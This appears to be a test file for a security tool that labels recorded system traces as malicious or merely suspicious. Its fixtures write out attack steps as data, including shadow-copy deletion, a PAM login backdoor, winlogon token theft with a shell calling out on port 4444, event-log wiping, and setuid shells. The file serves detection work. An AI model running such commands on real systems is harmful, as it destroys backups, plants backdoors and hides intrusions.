// What repairs, installs or builds, and looks like an attack until one more fact is asked for; and each time the attack.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeTrace } from '../../src/trace/analyze.ts'
import type { SystemEvent } from '../../src/trace/system.ts'
import type { Trace } from '../../src/trace/trace.ts'
import { environment, file, runs, sets, system, trace } from './empty-trace.ts'

type Parts = readonly Partial<Trace>[]

const RUN = 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'
const COPY_SERVICES = ['vss', 'swprv', 'wbengine', 'sqlwriter']
const tells = (verb: string, names: readonly string[]): Parts => names.map((name) => runs(`net ${verb} ${name}`))
const winlogon = system({
  kind: 'privilege',
  what: 'token of C:\\Windows\\system32\\winlogon.exe was given to a new process',
  succeeded: true,
})
const module = file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so')
const enough = 'auth sufficient pam_key.so cue\n'
const letsIn = file('write', '/etc/pam.d/common-auth', { start: enough })
const unpacks = (what: string): Parts => [
  runs(`/usr/bin/dpkg --unpack ${what}`, { pid: 7 }),
  file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so.dpkg-new', { pid: 7 }),
  file('rename', '/usr/lib/x86_64-linux-gnu/security/pam_key.so.dpkg-new', {
    to: '/usr/lib/x86_64-linux-gnu/security/pam_key.so',
    pid: 7,
  }),
]
const empties = (...logs: readonly string[]): Partial<Trace> =>
  system(...logs.map((what): SystemEvent => ({ kind: 'event_log', what })))
const built = '/tmp/selfgz71/graphics/kernel/gfx-drm.ko'
const tries: Parts = [file('write', built), runs(`insmod ${built}`), system({ kind: 'kernel_module', what: built })]
const comesTwice = (program: string, task: string): Parts => [
  sets(RUN, 'Update', `"${program}" /c`),
  runs(`schtasks /create /f /sc ${task} /tn Update /tr "${program} /ua"`),
]
const UPDATER = 'C:\\Users\\u\\AppData\\Local\\Meadow\\Update\\MeadowUpdate.exe'
const tree: Parts = ['etc/passwd', ...['su', 'mount', 'ls', 'cat', 'sed', 'tar'].map((name) => `usr/bin/${name}`)].map(
  (path) => file('write', `/tmp/build.a1/root/${path}`),
)
const door = (path: string): Parts => [file('write', path), file('mode', path, { mode: '04755' })]

const services = (op: 'start' | 'stop'): Partial<Trace> =>
  system(...COPY_SERVICES.map((what): SystemEvent => ({ kind: 'service', op, what, atMs: 0 })))

/** By what is asked: what is not convicted, and the attacks that are. */
const CASES: Readonly<
  Record<string, readonly [honest: Readonly<Record<string, Parts>>, attacks: Record<string, Parts>]>
> = {
  'services of copies are stopped': [
    {
      'and start again': [
        ...tells('stop', COPY_SERVICES),
        runs('regsvr32 /s ole32.dll'),
        ...tells('start', COPY_SERVICES),
      ],
      'and start again in PowerShell': [...tells('stop', COPY_SERVICES), services('start')],
    },
    {
      'and stop in PowerShell once they were started': [
        ...tells('stop', COPY_SERVICES),
        services('start'),
        services('stop'),
      ],
      'and are told to start in PowerShell, where they may not': [
        ...tells('stop', COPY_SERVICES),
        {
          layers: [{ depth: 1, technique: 'a', language: 'powershell', text: 'Set-Service VSS -StartupType Disabled' }],
        },
        services('start'),
      ],
      'and stay so': tells('stop', COPY_SERVICES),
      'after they were started': [...tells('start', COPY_SERVICES), ...tells('stop', COPY_SERVICES)],
      'and start again over copies that are gone': [
        ...tells('stop', COPY_SERVICES),
        runs('vssadmin delete shadows /all /quiet'),
        ...tells('start', COPY_SERVICES),
      ],
      'and were not to start before': [
        ...COPY_SERVICES.map((name) => runs(`sc config ${name} start= disabled`)),
        ...tells('stop', COPY_SERVICES),
        ...tells('start', COPY_SERVICES),
      ],
      'and words about their start stand behind the end': [
        ...tells('stop', COPY_SERVICES),
        ...COPY_SERVICES.map((name) => runs(`cmd.exe /c exit & net start ${name}`)),
      ],
      'and fail to start': [
        ...tells('stop', COPY_SERVICES),
        ...COPY_SERVICES.map((name) => runs(`net start ${name}`, { exitCode: 2 })),
      ],
      'and stop once more by a call': [
        ...tells('stop', COPY_SERVICES),
        ...COPY_SERVICES.map((name) => runs(`net start ${name}`, { atMs: 10 })),
        system(...COPY_SERVICES.map((what): SystemEvent => ({ kind: 'service', op: 'stop', what, atMs: 20 }))),
      ],
      'and are not to start': [
        ...tells('stop', COPY_SERVICES),
        ...tells('start', COPY_SERVICES),
        ...COPY_SERVICES.map((name) => runs(`sc config ${name} start= disabled`)),
      ],
    },
  ],
  'the rights of the log-on': [
    {
      'for a shell in sight': [winlogon, runs('C:\\Windows\\System32\\cmd.exe')],
      'for an order about the machine': [winlogon, runs('cmd /c takeown /f C:\\Windows\\Web /r')],
    },
    {
      'for an order': [winlogon, runs('C:\\Windows\\System32\\cmd.exe /c C:\\ProgramData\\a.bat')],
      'for an order about what it brought': [
        winlogon,
        file('write', 'C:\\Program Files\\x\\h.bat'),
        runs('cmd /c "C:\\Program Files\\x\\h.bat"'),
      ],
      'for an order from elsewhere': [winlogon, runs('cmd /c \\\\files.example\\a\\b.cmd')],
      'for a shell, while somebody is spoken to': [
        winlogon,
        runs('C:\\Windows\\System32\\cmd.exe'),
        { network: [{ kind: 'tcp', host: '203.0.113.9', port: 4444 }] },
      ],
      'for itself, and a window in sight': [
        system({
          kind: 'privilege',
          what: 'token of C:\\Windows\\system32\\winlogon.exe was taken on',
          succeeded: true,
        }),
        runs('notepad.exe'),
      ],
      'for a program that is called like one of the machine': [
        winlogon,
        runs('cmd.exe', { image: 'C:\\Users\\u\\Downloads\\cmd.exe' }),
      ],
      'out of sight': [winlogon, runs('C:\\Windows\\System32\\cmd.exe', { hidden: true })],
      'for what it brought': [winlogon, file('write', 'C:\\Windows\\System32\\cmd.exe'), runs('cmd.exe')],
      'for itself': [environment({ sample: 'C:\\Users\\u\\a.exe' }), winlogon, runs('a.exe')],
    },
  ],
  'a module for logins is enough': [
    {
      'for administrators who hold a key': [module, file('write', '/etc/pam.d/sudo', { start: enough })],
      'and a package of the distribution has it': [
        runs('/usr/bin/apt-get upgrade -y', { pid: 5 }),
        runs('/usr/lib/apt/methods/https', { pid: 6 }),
        file('write', '/var/cache/apt/archives/partial/libpam-key_1.2_amd64.deb', { pid: 6 }),
        file('rename', '/var/cache/apt/archives/partial/libpam-key_1.2_amd64.deb', {
          to: '/var/cache/apt/archives/libpam-key_1.2_amd64.deb',
          pid: 5,
        }),
        ...unpacks('/var/cache/apt/archives/libpam-key_1.2_amd64.deb'),
        runs('/usr/bin/dpkg --status-fd 20 --configure libpam-key', { pid: 9 }),
        file('write', '/etc/libpam-key', { pid: 10 }),
        letsIn,
      ],
      'and a package that was there has it': [...unpacks('libpam-key.deb'), letsIn],
    },
    {
      'and a package that it wrote has it': [
        file('write', '/tmp/p/libpam-key.deb'),
        ...unpacks('p/libpam-key.deb'),
        letsIn,
      ],
      'and a package under another name has it': [file('write', '/tmp/.p'), ...unpacks('/tmp/.p'), letsIn],
      'and a package that it fetched has it': [
        runs('/usr/bin/curl -o k.deb https://meadow.example/k.deb', { pid: 6 }),
        file('write', '/root/k.deb', { pid: 6 }),
        ...unpacks('--recursive .'),
        letsIn,
      ],
      'and a package that it put among those of the distribution has it': [
        file('copy', '/tmp/a', { to: '/var/cache/apt/archives/libpam-key_1.2_amd64.deb' }),
        runs('/usr/bin/apt-get upgrade -y', { pid: 5 }),
        ...unpacks('/var/cache/apt/archives/libpam-key_1.2_amd64.deb'),
        letsIn,
      ],
      'and a package out of a pipe has it': [...unpacks('/dev/fd/63'), letsIn],
      'and a package from a source that it added has it': [
        file('write', '/etc/apt/sources.list.d/meadow.list'),
        runs('/usr/bin/apt-get install -y libpam-key', { pid: 5 }),
        file('write', '/var/cache/apt/archives/libpam-key_1.2_amd64.deb', { pid: 5 }),
        ...unpacks('/var/cache/apt/archives/libpam-key_1.2_amd64.deb'),
        letsIn,
      ],
      'and the package has it that is the sample': [
        environment({ sample: '/home/u/libpam-key.deb' }),
        ...unpacks('/home/u/libpam-key.deb'),
        letsIn,
      ],
      'and who wrote it became the package tool': [
        runs('/bin/sh a.sh', { pid: 7 }),
        ...unpacks('libpam-key.deb'),
        letsIn,
      ],
      'and what is called like the package tool has it': [
        file('write', '/usr/bin/dpkg'),
        runs('/usr/bin/dpkg --unpack libpam-key.deb', { pid: 7 }),
        file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so', { pid: 7 }),
        file('write', '/etc/pam.d/common-auth', { start: enough }),
      ],
      'and takes the place of what a package has': [
        runs('/usr/bin/dpkg --unpack libpam-key.deb', { pid: 7 }),
        file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so', { pid: 7 }),
        file('write', '/usr/lib/x86_64-linux-gnu/security/pam_key.so', { pid: 8 }),
        file('write', '/etc/pam.d/common-auth', { start: enough }),
      ],
      'for whoever comes over the network': [module, file('write', '/etc/pam.d/sshd', { start: enough })],
      'and looks old': [
        module,
        file('times', '/usr/lib/x86_64-linux-gnu/security/pam_key.so', { mode: '2023-01-01' }),
        file('write', '/etc/pam.d/sudo', { start: enough }),
      ],
    },
  ],
  'an updater comes by a Run key and a task': [
    { 'for one user': [file('write', UPDATER), ...comesTwice(UPDATER, 'daily')] },
    {
      'every few minutes': [file('write', UPDATER), ...comesTwice(UPDATER, 'minute')],
      'out of a folder of settings': [
        file('write', 'C:\\Users\\u\\AppData\\Roaming\\w\\w.exe'),
        ...comesTwice('C:\\Users\\u\\AppData\\Roaming\\w\\w.exe', 'daily'),
      ],
      'and is the sample': [
        environment({ sample: 'C:\\Users\\u\\Downloads\\a.exe' }),
        file('copy', 'C:\\Users\\u\\Downloads\\a.exe', { to: UPDATER }),
        ...comesTwice(UPDATER, 'daily'),
      ],
    },
  ],
  'a log is emptied twice': [
    {
      'its own': [empties('ClearEventLog Meadow', 'ClearEventLog Meadow')],
      'by handle': [empties('ClearEventLog', 'ClearEventLog')],
    },
    {
      'those of the system': [empties('ClearEventLog Application', 'ClearEventLog Security')],
      'one by handle beside another': [empties('ClearEventLog', 'ClearEventLog System')],
    },
  ],
  'a module of the kernel out of a temporary folder': [
    { 'is tried': [...tries, runs('rmmod gfx_drm')] },
    {
      stays: tries,
      'is exchanged for a new one': [runs('rmmod gfx_drm'), ...tries],
      'is tried, and comes back': [...tries, runs('rmmod gfx_drm'), runs(`insmod ${built}`)],
      'comes back by a call': [
        file('write', built),
        runs(`insmod ${built}`, { atMs: 1 }),
        runs('rmmod gfx_drm', { atMs: 2 }),
        system({ kind: 'kernel_module', what: built, atMs: 3 }),
      ],
      'does not go': [...tries, runs('rmmod gfx_drm', { exitCode: 1 })],
      'stays, and there are words about its end': [...tries, runs('sh -c "false && rmmod gfx_drm"')],
      'stays, and another goes': [...tries, runs('rmmod usbhid')],
      'is hidden, and goes': [
        file('write', '/tmp/.x.ko'),
        system({ kind: 'kernel_module', what: '/tmp/.x.ko' }),
        runs('rmmod .x'),
      ],
    },
  ],
  'a program of root in a temporary folder': [
    { 'of a whole system': [...tree, file('mode', '/tmp/build.a1/root/usr/bin/su', { mode: '04755' })] },
    {
      alone: door('/tmp/build.a1/root/usr/bin/su'),
      'that is moved out of a whole system': [
        ...tree,
        file('mode', '/tmp/build.a1/root/usr/bin/su', { mode: '04755' }),
        file('rename', '/tmp/build.a1/root/usr/bin/su', { to: '/var/tmp/su' }),
      ],
      'that got its rights under another name': [
        file('write', '/tmp/.su.x1'),
        file('mode', '/tmp/.su.x1', { mode: '04755' }),
        file('rename', '/tmp/.su.x1', { to: '/tmp/su' }),
      ],
      'beside a whole system': [...tree, ...door('/tmp/build.a1/s')],
      'that is a shell of it': [...tree, ...door('/tmp/build.a1/root/usr/bin/bash')],
      'that is a copy': [
        ...tree,
        file('copy', '/bin/sh', { to: '/tmp/build.a1/root/usr/bin/su' }),
        file('mode', '/tmp/build.a1/root/usr/bin/su', { mode: '04755' }),
      ],
    },
  ],
}

for (const [what, [honest, attacks]] of Object.entries(CASES)) {
  for (const [name, parts] of [...Object.entries(honest), ...Object.entries(attacks)]) {
    const isAttack = parts === attacks[name]
    test(`${isAttack ? 'convicted' : 'suspicious'}: ${what} ${name}`, () => {
      const { verdict } = analyzeTrace([trace(...parts)], { path: 'a', earlier: [] })
      // An author could write the rest as well, and is not let off for it.
      assert.equal(verdict?.label, isAttack ? 'malicious' : 'suspicious', JSON.stringify(verdict?.reasons))
    })
  }
}
